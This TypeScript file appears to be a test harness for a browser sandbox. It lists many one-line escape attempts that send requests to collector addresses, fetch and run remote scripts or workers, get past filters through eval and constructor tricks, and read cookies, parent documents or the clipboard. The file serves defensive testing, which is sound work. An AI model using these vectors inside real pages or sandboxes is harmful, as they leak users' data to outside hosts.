/**
 * Ways out, one line each: a name and a statement that runs in an async function. `T` holds the collectors' addresses
 * and `T.app` the host's own origin; `name` is this vector's name. `say(text)` reports something that should not have
 * been readable. An exception is what a closed door looks like.
 */
export type Vector = readonly [name: string, statement: string]

/** Wherever scripts run: windows, workers, and cells. */
export const ANYWHERE: readonly Vector[] = [
  ['fetch', 'await fetch(T.http + "/fetch")'],
  ['fetch-no-cors', 'await fetch(T.http + "/fetch-no-cors", { mode: "no-cors" })'],
  [
    'fetch-keepalive',
    'await fetch(T.http + "/fetch-keepalive", { method: "POST", body: "x", keepalive: true, mode: "no-cors" })',
  ],
  [
    'fetch-app-with-cookies',
    'await fetch(T.app + "/api/escape", { credentials: "include", mode: "no-cors" })',
  ],
  ['fetch-tcp', 'await fetch(T.tcp + "/")'],
  ['fetch-request', 'await fetch(new Request(T.http + "/request", { mode: "no-cors" }))'],
  ['fetch-by-function', 'await new Function("u", "return fetch(u)")(T.http + "/by-function")'],
  ['fetch-by-eval', 'await (0, eval)("fetch")(T.http + "/by-eval")'],
  ['fetch-by-timer', 'setTimeout(`fetch(${JSON.stringify(T.http + "/by-timer")})`, 0)'],
  [
    'fetch-by-async-function',
    'await (async () => {}).constructor("u", "return fetch(u)")(T.http + "/by-async-function")',
  ],
  ['fetch-by-constructor', 'await "".constructor.constructor("return fetch")()(T.http + "/by-constructor")'],
  [
    'fetch-by-prototypes',
    'for (let o = globalThis; o; o = Object.getPrototypeOf(o)) { const d = Object.getOwnPropertyDescriptor(o, "fetch"); if (d) await d.value.call(globalThis, T.http + "/by-prototypes") }',
  ],
  [
    'fetch-by-walk',
    'for (const k of Reflect.ownKeys(globalThis)) { const v = globalThis[k]; if (typeof v === "function" && v.name === "fetch") await v(T.http + "/by-walk") }',
  ],
  ['fetch-later', 'fetchLater(T.http + "/fetch-later", { activateAfter: 0 })'],
  [
    'xhr',
    'await new Promise((f, r) => { const x = new XMLHttpRequest(); x.onload = f; x.onerror = r; x.open("GET", T.http + "/xhr"); x.send() })',
  ],
  ['xhr-sync', 'const x = new XMLHttpRequest(); x.open("GET", T.http + "/xhr-sync", false); x.send()'],
  [
    'websocket',
    'await new Promise((f, r) => { const s = new WebSocket(T.ws + "/socket"); s.onopen = f; s.onerror = r })',
  ],
  ['websocket-stream', 'await new WebSocketStream(T.ws + "/stream").opened'],
  [
    'websocket-tcp',
    'await new Promise((f, r) => { const s = new WebSocket(T.tcp.replace("http", "ws")); s.onopen = f; s.onerror = r })',
  ],
  [
    'event-source',
    'await new Promise((f, r) => { const s = new EventSource(T.http + "/events"); s.onopen = f; s.onerror = r })',
  ],
  ['web-transport', 'await new WebTransport("https://" + T.udp + "/transport").ready'],
  ['import-remote', 'await import(T.http + "/script-import")'],
  ['import-app', 'await import(T.app + "/kernel/escape.js")'],
  [
    'import-by-function',
    'await new Function("u", "return import(u)")(T.http + "/script-import-by-function")',
  ],
  ['import-scripts', 'importScripts(T.http + "/script-import-scripts")'],
  ['import-scripts-app', 'importScripts(T.app + "/kernel/escape-scripts.js")'],
  ['worker-remote', 'new Worker(T.http + "/script-worker")'],
  ['worker-app', 'new Worker(T.app + "/kernel/escape-worker.js")'],
  [
    'worker-data',
    'new Worker("data:text/javascript," + encodeURIComponent(`fetch(${JSON.stringify(T.http + "/worker-data")}, { mode: "no-cors" })`))',
  ],
  [
    'worker-data-import',
    'new Worker("data:text/javascript," + encodeURIComponent(`importScripts(${JSON.stringify(T.http + "/script-worker-data-import")})`))',
  ],
  [
    'worker-data-socket',
    'new Worker("data:text/javascript," + encodeURIComponent(`new WebSocket(${JSON.stringify(T.ws + "/worker-data-socket")})`))',
  ],
  [
    'worker-blob',
    'new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(T.http + "/worker-blob")}, { mode: "no-cors" })`])))',
  ],
  [
    'worker-module',
    'new Worker("data:text/javascript," + encodeURIComponent(`import ${JSON.stringify(T.http + "/script-worker-module")}`), { type: "module" })',
  ],
  ['shared-worker', 'new SharedWorker(T.http + "/script-shared-worker")'],
  ['service-worker', 'await navigator.serviceWorker.register(T.http + "/script-service-worker")'],
  ['beacon', 'navigator.sendBeacon(T.http + "/beacon", "x")'],
  ['cache-add', 'await (await caches.open("a")).add(T.http + "/cache")'],
  ['font', 'await new FontFace("a", `url(${T.http}/font)`).load()'],
  ['wasm-streaming', 'await WebAssembly.compileStreaming(fetch(T.http + "/wasm"))'],
  ['bitmap', 'await createImageBitmap(await (await fetch(T.http + "/bitmap")).blob())'],
  ['notification', 'new Notification("a", { icon: T.http + "/notification" })'],
  [
    'rtc',
    'const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + T.udp }] }); p.createDataChannel("a"); await p.setLocalDescription(await p.createOffer()); await new Promise((f) => setTimeout(f, 500))',
  ],
  [
    'indexed-db',
    'await new Promise((f, r) => { const q = indexedDB.open("a"); q.onsuccess = f; q.onerror = r }); say("indexedDB")',
  ],
  ['caches', 'await caches.keys(); say("caches")'],
  ['files', 'await navigator.storage.getDirectory(); say("files")'],
  ['locks', 'await navigator.locks.request("a", () => {}); say("locks")'],
  ['cookie-store', 'if (await cookieStore.get("session")) say("cookie store")'],
  ['broadcast', 'const b = new BroadcastChannel("a"); b.postMessage("escape"); b.close()'],
  ['usb', 'await navigator.usb.requestDevice({ filters: [] }); say("usb")'],
  ['serial', 'await navigator.serial.requestPort(); say("serial")'],
  ['hid', 'await navigator.hid.requestDevice({ filters: [] }); say("hid")'],
]

/** Where there is a document. */
export const WINDOW: readonly Vector[] = [
  ['image', 'new Image().src = T.http + "/image"'],
  ['image-srcset', 'add("img", { srcset: T.http + "/srcset 1x" })'],
  ['script', 'add("script", { src: T.http + "/script" })'],
  ['script-app', 'add("script", { src: T.app + "/kernel/escape-tag.js" })'],
  [
    'script-module',
    'add("script", { type: "module", text: `import ${JSON.stringify(T.http + "/script-module")}` })',
  ],
  [
    'script-inline',
    'add("script", { text: `fetch(${JSON.stringify(T.http + "/inline")}, { mode: "no-cors" })` })',
  ],
  [
    'speculation',
    'add("script", { type: "speculationrules", text: JSON.stringify({ prefetch: [{ urls: [T.http + "/speculation"] }] }) })',
  ],
  ['stylesheet', 'add("link", { rel: "stylesheet", href: T.http + "/stylesheet" })'],
  ['style-import', 'add("style", { textContent: `@import url(${T.http}/style-import)` })'],
  ['style-image', 'document.body.style.background = `url(${T.http}/style-image)`'],
  [
    'style-font',
    'add("style", { textContent: `@font-face { font-family: a; src: url(${T.http}/style-font) } body { font-family: a }` }); document.body.append("text")',
  ],
  ['prefetch', 'add("link", { rel: "prefetch", href: T.http + "/prefetch" })'],
  ['preload', 'add("link", { rel: "preload", as: "script", href: T.http + "/preload" })'],
  ['modulepreload', 'add("link", { rel: "modulepreload", href: T.http + "/script-preload" })'],
  ['prerender', 'add("link", { rel: "prerender", href: T.http + "/prerender" })'],
  ['preconnect', 'add("link", { rel: "preconnect", href: T.tcp })'],
  ['icon', 'add("link", { rel: "icon", href: T.http + "/icon" })'],
  ['manifest', 'add("link", { rel: "manifest", href: T.http + "/manifest" })'],
  ['frame', 'add("iframe", { src: T.http + "/frame" })'],
  ['frame-srcdoc', 'add("iframe", { srcdoc: `<img src="${T.http}/srcdoc">` })'],
  ['frame-data', 'add("iframe", { src: `data:text/html,<img src="${T.http}/frame-data">` })'],
  ['object', 'add("object", { data: T.http + "/object" })'],
  ['embed', 'add("embed", { src: T.http + "/embed" })'],
  ['video', 'add("video", { src: T.http + "/video", preload: "auto" })'],
  ['video-poster', 'add("video", { poster: T.http + "/poster" })'],
  ['audio', 'new Audio(T.http + "/audio").load()'],
  [
    'svg-image',
    'document.body.insertAdjacentHTML("beforeend", `<svg><image href="${T.http}/svg-image"/></svg>`)',
  ],
  [
    'svg-use',
    'document.body.insertAdjacentHTML("beforeend", `<svg><use href="${T.http}/svg-use#a"/></svg>`)',
  ],
  ['input-image', 'add("input", { type: "image", src: T.http + "/input-image" })'],
  [
    'base',
    'document.head.append(Object.assign(document.createElement("base"), { href: T.http })); add("img", { src: "/base" })',
  ],
  [
    'html',
    'document.body.insertAdjacentHTML("beforeend", `<img src="${T.http}/html" onerror="fetch(this.src)">`)',
  ],
  ['css-image-set', 'document.body.style.listStyle = `image-set("${T.http}/image-set" 1x)`'],
  ['parent-document', 'say(parent.document.cookie + parent.document.title)'],
  ['top-document', 'say(top.document.title)'],
  ['parent-wall', 'parent.wall.dispose(); say("parent")'],
  ['frame-element', 'if (frameElement) say("frameElement")'],
  ['cookie', 'if (document.cookie) say(document.cookie)'],
  ['local-storage', 'localStorage.setItem("a", "1"); say("localStorage")'],
  ['session-storage', 'sessionStorage.setItem("a", "1"); say("sessionStorage")'],
  ['origin', 'if (self.origin !== "null") say("origin " + self.origin)'],
  ['alert', 'if (self.confirm?.("a")) say("confirm")'],
  [
    'geolocation',
    'await new Promise((f, r) => navigator.geolocation.getCurrentPosition(f, r)); say("geolocation")',
  ],
  ['camera', 'await navigator.mediaDevices.getUserMedia({ video: true }); say("camera")'],
  ['clipboard', 'await navigator.clipboard.readText(); say("clipboard")'],
  ['fullscreen', 'await document.documentElement.requestFullscreen(); say("fullscreen")'],
]

/** Each would leave the page, so each has a frame of its own. */
export const NAVIGATION: readonly Vector[] = [
  ['location', 'location.href = T.http + "/location"'],
  ['location-replace', 'location.replace(T.http + "/location-replace")'],
  ['location-app', 'location.href = T.app + "/api/location"'],
  [
    'meta-refresh',
    'document.head.append(Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: "0;url=" + T.http + "/refresh" }))',
  ],
  ['link', 'add("a", { href: T.http + "/link" }).click()'],
  ['link-blank', 'add("a", { href: T.http + "/link-blank", target: "_blank" }).click()'],
  ['link-top', 'add("a", { href: T.http + "/link-top", target: "_top" }).click()'],
  ['link-ping', 'add("a", { href: "#a", ping: T.http + "/ping" }).click()'],
  ['download', 'add("a", { href: T.http + "/download", download: "a" }).click()'],
  ['form', 'add("form", { action: T.http + "/form", method: "post" }).submit()'],
  ['form-get', 'add("form", { action: T.http + "/form-get" }).submit()'],
  ['form-top', 'add("form", { action: T.http + "/form-top", target: "_top" }).submit()'],
  ['open', 'window.open(T.http + "/open")'],
  ['open-self', 'window.open(T.http + "/open-self", "_self")'],
  ['top-location', 'top.location = T.http + "/top"'],
  ['parent-location', 'parent.location.href = T.http + "/parent"'],
  ['script-url', 'location.href = `javascript:fetch(${JSON.stringify(T.http + "/script-url")})`'],
  ['data-url', 'location.href = `data:text/html,<img src="${T.http}/data-url">`'],
  [
    'blob-url',
    'location.href = URL.createObjectURL(new Blob([`<img src="${T.http}/blob-url">`], { type: "text/html" }))',
  ],
  ['navigation-api', 'await navigation.navigate(T.http + "/navigate").finished'],
]

const HELPERS = `
const add = (tag, props) => { const e = Object.assign(document.createElement(tag), props); document.body.append(e); return e }
const within = (promise) => Promise.race([promise, new Promise((f) => setTimeout(f, 700))])
`

/** A script that tries all vectors side by side and then calls `done(reports)`. */
export function attack(vectors: readonly Vector[], targets: object, done: string): string {
  const each = vectors.map(
    ([name, statement]) =>
      `within((async () => { const name = ${JSON.stringify(name)}; const say = (t) => said.push(name + ': ' + t); try { ${statement} } catch (e) {} })())`,
  )
  return `(async () => { const T = ${JSON.stringify(targets)}; const said = [];${HELPERS}
await Promise.allSettled([${each.join(',\n')}]); (${done})(said) })()`
}
